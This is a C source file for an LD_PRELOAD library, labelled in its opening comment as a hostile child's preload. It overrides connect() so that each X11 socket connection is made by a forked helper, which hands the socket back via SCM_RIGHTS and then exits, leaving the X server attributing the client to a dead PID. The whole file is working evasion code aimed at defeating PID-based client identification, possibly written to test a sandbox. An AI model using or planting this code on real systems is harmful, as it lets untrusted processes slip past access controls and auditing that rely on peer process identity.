// A hostile child's LD_PRELOAD: every connection to an X server is made by a forked helper,
// which hands the connected socket back (SCM_RIGHTS) and exits. The server then knows the
// client by the helper's pid, a process that no longer exists. Build with -shared -fPIC.
#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

typedef int (*connect_function)(int, const struct sockaddr *, socklen_t);

static int receive_descriptor(int channel) {
    char byte;
    struct iovec data = {.iov_base = &byte, .iov_len = 1};
    char control[CMSG_SPACE(sizeof(int))];
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control,
                             .msg_controllen = sizeof control};
    if (recvmsg(channel, &message, 0) != 1) return -1;
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    if (!header || header->cmsg_type != SCM_RIGHTS) return -1;
    int fd;
    memcpy(&fd, CMSG_DATA(header), sizeof fd);
    return fd;
}

static void send_descriptor(int channel, int fd) {
    char byte = 0;
    struct iovec data = {.iov_base = &byte, .iov_len = 1};
    char control[CMSG_SPACE(sizeof(int))];
    memset(control, 0, sizeof control);
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    sendmsg(channel, &message, 0);
}

int connect(int fd, const struct sockaddr *address, socklen_t length) {
    connect_function real = (connect_function)dlsym(RTLD_NEXT, "connect");
    const struct sockaddr_un *unix_address = (const struct sockaddr_un *)address;
    if (address->sa_family != AF_UNIX || !strstr(unix_address->sun_path + 1, ".X11-unix"))
        return real(fd, address, length);
    int channel[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, channel) != 0) return real(fd, address, length);
    pid_t helper = fork();
    if (helper == 0) {
        close(channel[0]);
        int own = socket(AF_UNIX, SOCK_STREAM, 0);
        if (real(own, address, length) == 0) send_descriptor(channel[1], own);
        _exit(0);
    }
    close(channel[1]);
    int connected = receive_descriptor(channel[0]);
    close(channel[0]);
    waitpid(helper, NULL, 0);
    if (connected < 0) return -1;
    dup2(connected, fd);
    close(connected);
    return 0;
}
